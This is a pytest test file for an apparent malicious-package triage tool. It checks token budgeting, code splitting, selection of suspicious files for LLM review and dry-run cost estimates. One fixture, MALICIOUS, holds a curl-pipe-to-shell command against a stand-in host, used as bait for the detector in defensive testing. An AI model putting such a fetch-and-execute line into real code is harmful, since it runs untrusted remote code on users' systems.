"""Budgeting: offline token counts, statement-boundary splits, ranking, not-reviewed lists,
and the --dry-run estimate."""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import REPO, make_artifact
from triage import localize_plan
from triage.budget import Candidate, Segment, select, split_file
from triage.cli import app
from triage.indicators.engine import analyse
from triage.llm_estimate import estimate, format_estimates
from triage.localize_plan import PlanSettings, build_plan, definitions_retriever
from triage.model import FileKind, SkippedFile, SourceFile
from triage.statements import index_file
from triage.taxonomy import load_taxonomy

TAX = load_taxonomy()
DEFS = definitions_retriever(TAX)
BIG = textwrap.dedent('''\
    import os
    import base64


    def small():
        return 1


    class Loader:
        def run(self):
            a = 1
            b = 2
            c = 3
            d = 4
            e = 5
            f = 6
            g = 7
            h = 8

        def other(self):
            return os.getcwd()


    URL = "http://x.example.invalid"
''')
MALICIOUS = 'import os\nos.system("curl -s http://x.example.invalid/a.sh | sh")\n'


def words(text: str) -> int:
    return len(text.split())


def test_token_counting_is_offline_and_does_not_import_litellm(tmp_path: Path) -> None:
    code = textwrap.dedent('''\
        import os, socket, sys
        def blocked(*a, **k):
            raise OSError("network blocked")
        socket.socket.connect = blocked
        socket.getaddrinfo = blocked
        os.environ.pop("TIKTOKEN_CACHE_DIR", None)
        from triage.budget import counter, counting_method
        print(counter("openai/gpt-4.1-mini")("hello world"),
              counter("anthropic/claude-sonnet-4-5")("hello world"),
              counting_method("openai/gpt-4.1-mini"), counting_method("claude-sonnet-4-5"),
              "litellm" in sys.modules)
    ''')
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=REPO, timeout=60, env={"PATH": "/usr/bin:/bin",
                                                    "HOME": str(tmp_path)})
    assert out.stdout == "2 2 tiktoken o200k_base tiktoken cl100k_base False\n", out.stderr


def test_big_files_split_at_statement_boundaries_with_context() -> None:
    idx = index_file(SourceFile("pkg/big.py", BIG))
    whole = split_file(idx, 1000, words)
    assert [(s.start_line, s.end_line, s.part, s.parts, s.context_ids) for s in whole] == [
        (1, 24, 1, 1, ())]
    parts = split_file(idx, 40, words)
    got = [(s.start_line, s.end_line, s.part, s.parts, s.code_tokens,
            tuple(c.split(":", 1)[1] for c in s.context_ids)) for s in parts]
    assert got == [
        (1, 9, 1, 4, 30, ()),                                   # imports, small(), class header
        (10, 14, 2, 4, 34, ("1:0", "2:0", "9:0")),              # run() split inside its body
        (15, 23, 3, 4, 40, ("1:0", "2:0", "9:0", "10:0")),      # enclosing class and def
        (24, 24, 4, 4, 7, ("1:0", "2:0")),
    ]
    assert parts[2].statement_ids == tuple(f"pkg/big.py:{n}:0" for n in (15, 16, 17, 18, 20, 21))


def _cand(file: str, start: int, susp: float, tokens: int, parts: int = 1) -> Candidate:
    seg = Segment(file, start, start + 9, (f"{file}:{start}:0",), parts=parts)
    return Candidate(seg, susp, tokens, tokens)


def test_selection_spends_the_budget_on_the_most_suspicious_parts() -> None:
    cands = [_cand("a.py", 1, 0.0, 400), _cand("setup.py", 1, 0.9, 500),
             _cand("b.py", 1, 0.3, 600), _cand("c.py", 1, 0.02, 100)]
    chosen, left = select(cands, 1000)
    # b.py does not fit after setup.py; smaller, less suspicious parts still use the rest
    assert [c.segment.file for c in chosen] == ["setup.py", "c.py", "a.py"]
    assert [c.segment.file for c in left] == ["b.py"]


def test_plan_lists_everything_the_model_does_not_read() -> None:
    art = make_artifact({
        "pkg/setup.py": MALICIOUS,
        "pkg/util.py": "def add(a, b):\n    return a + b\n",
        "pkg/_vendor/six.py": "def b(s):\n    return s\n",
        "pkg/_vendor/evil.py": MALICIOUS,
        "pkg/empty.py": "",
    })
    readme = SourceFile("pkg/README.md", "hi", kind=FileKind.TEXT)
    art = dataclasses.replace(art, files=art.files + (readme,), skipped=(
        SkippedFile("pkg/bin/x.exe", "binary file (PE executable)", evidence=True),))
    result = analyse(art)
    full = build_plan(art, result, PlanSettings(max_tokens_per_package=10**9, review=False),
                      TAX, words, DEFS)
    tokens = {p.segment.file: p.prompt_tokens for p in full.parts}
    assert list(tokens) == ["pkg/setup.py", "pkg/util.py", "pkg/_vendor/evil.py"]
    budget = tokens["pkg/setup.py"] + tokens["pkg/_vendor/evil.py"]
    plan = build_plan(art, result, PlanSettings(max_tokens_per_package=budget, review=False),
                      TAX, words, DEFS)
    assert [p.segment.file for p in plan.parts] == ["pkg/setup.py", "pkg/_vendor/evil.py"]
    assert plan.not_reviewed == (
        SkippedFile("pkg/bin/x.exe", "binary file (PE executable)"),
        SkippedFile("pkg/README.md", "not Python source; the model reviews Python statements "
                                     "only"),
        SkippedFile("pkg/_vendor/six.py", "vendored third-party code without static signals; "
                                          "not sent to the model"),
        SkippedFile("pkg/util.py", f"over the per-package token budget "
                                   f"({tokens['pkg/util.py']} prompt tokens needed, 0 of "
                                   f"{budget} left)"),
    )


def test_parts_over_budget_are_listed_with_their_lines() -> None:
    art = make_artifact({"pkg/big.py": BIG})
    result = analyse(art)
    full = build_plan(art, result, PlanSettings(chunk_tokens=40, context_tokens=10**6,
                                                max_tokens_per_package=10**9, review=False),
                      TAX, words, DEFS)
    assert len(full.parts) == 4
    budget = full.parts[0].prompt_tokens + full.parts[3].prompt_tokens
    plan = build_plan(art, result, PlanSettings(chunk_tokens=40, context_tokens=10**6,
                                                max_tokens_per_package=budget, review=False),
                      TAX, words, DEFS)
    assert [(p.segment.start_line, p.segment.end_line) for p in plan.parts] == [(1, 9),
                                                                                (24, 24)]
    need = {p.segment.start_line: p.prompt_tokens for p in full.parts}
    assert plan.not_reviewed == tuple(
        SkippedFile("pkg/big.py", f"lines {a}-{b}: over the per-package token budget "
                                  f"({need[a]} prompt tokens needed, 0 of {budget} left)")
        for a, b in ((10, 14), (15, 23)))


def test_review_pass_counts_a_second_call() -> None:
    art = make_artifact({"setup.py": MALICIOUS})
    result = analyse(art)
    one = build_plan(art, result, PlanSettings(review=False), TAX, words, DEFS).parts[0]
    two = build_plan(art, result, PlanSettings(review=True), TAX, words, DEFS).parts[0]
    assert one.total_tokens == one.prompt_tokens
    assert two.total_tokens > 2 * two.prompt_tokens + 400


def test_dry_run_estimate_prices_two_hosted_models() -> None:
    art = make_artifact({"setup.py": MALICIOUS})
    settings = PlanSettings(review=True)
    rows = estimate(art, analyse(art), settings,
                    ["openai/gpt-4.1-mini", "anthropic/claude-sonnet-4-5"], retriever=DEFS)
    assert [(e.model, e.calls, e.completion_tokens, e.priced, e.context_tokens, e.counting)
            for e in rows] == [
        ("openai/gpt-4.1-mini", 2, 800, True, 1047576, "tiktoken o200k_base"),
        ("anthropic/claude-sonnet-4-5", 2, 800, True, 200000, "tiktoken cl100k_base")]
    mini, sonnet = rows
    assert mini.cost_usd == round(mini.prompt_tokens * 0.4e-6 + 800 * 1.6e-6, 6)
    assert sonnet.cost_usd == round(sonnet.prompt_tokens * 3e-6 + 800 * 15e-6, 6)
    text = format_estimates(rows, settings)
    assert text.startswith("dry run: no model was called; completion tokens assume 400 per "
                           "call; budget 60000 prompt tokens per package; review pass on\n")
    assert f"${mini.cost_usd:.4f}" in text and "total for 1 package(s):" in text


@pytest.fixture
def no_kb(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(localize_plan, "default_retriever", definitions_retriever)


def test_cli_dry_run_calls_nothing(tmp_path: Path, no_kb: None) -> None:
    f = tmp_path / "setup.py"
    f.write_text(MALICIOUS)
    runner = CliRunner()
    res = runner.invoke(app, ["explain", str(f), "--model", "openai/gpt-4.1-mini", "--model",
                              "anthropic/claude-sonnet-4-5", "--dry-run", "--format", "json"])
    assert res.exit_code == 0, res.output
    rows = [json.loads(line) for line in res.stdout.splitlines()]
    assert [(r["model"], r["calls"]) for r in rows] == [("openai/gpt-4.1-mini", 2),
                                                        ("anthropic/claude-sonnet-4-5", 2)]
    res = runner.invoke(app, ["explain", str(f), "--model", "local", "--dry-run",
                              "--no-review"])
    assert res.exit_code == 0, res.output
    assert "openai/local" in res.stdout and "no price" in res.stdout
    assert "(context 8,192; tiktoken cl100k_base)" in res.stdout


@pytest.mark.parametrize("args", [["--dry-run"], ["--model", "a/b", "--model", "c/d"]])
def test_cli_model_usage_errors(tmp_path: Path, args: list[str]) -> None:
    f = tmp_path / "m.py"
    f.write_text("x = 1\n")
    res = CliRunner().invoke(app, ["explain", str(f), *args])
    assert res.exit_code == 2
    assert "--dry-run needs --model, and several --model need --dry-run" in res.output


def test_cli_import_does_not_load_llm_libraries() -> None:
    code = ("import sys, triage.cli, triage.pipeline, triage.localize, triage.llm, "
            "triage.budget, triage.verify, triage.prompting, triage.llm_estimate\n"
            "print(sorted(m for m in ('litellm', 'tiktoken', 'openai', 'jinja2') "
            "if m in sys.modules))\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=REPO, timeout=60, check=True)
    assert out.stdout == "[]\n"
